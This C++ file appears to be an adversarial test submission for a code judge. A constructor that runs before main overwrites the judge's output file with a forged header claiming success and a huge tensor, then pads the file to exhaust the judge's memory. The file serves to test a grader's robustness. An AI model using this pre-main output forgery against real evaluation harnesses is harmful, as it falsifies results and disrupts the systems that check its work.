// Attack: an answer with as many numbers as a file may hold, to fill the judge's memory.
// Ends as: no_answer
#include "attack.h"

static void attack() {}

[[gnu::constructor]] static void forge(int, char** argv, char**) {
  static char block[1 << 20];
  memset(block, ' ', sizeof block);
  char head[200];
  const int n = 15 << 20;
  const int size =
      snprintf(head, sizeof head,
               R"({"__metadata__":{"status":"0","message":"","overrun":"","overrun_side":"",)"
               R"("changed_input":""},"y":{"dtype":"F32","shape":[%d],"data_offsets":[0,%d]}})",
               n / 4, n);
  const unsigned long long length = static_cast<unsigned long long>(size);
  const int file = open(argv[2], O_WRONLY | O_TRUNC);
  if (write(file, &length, sizeof length) < 0 || write(file, head, length) < 0) return;
  for (int i = 0; i < n >> 20; ++i) {
    if (write(file, block, sizeof block) < 0) return;
  }
  _exit(0);
}
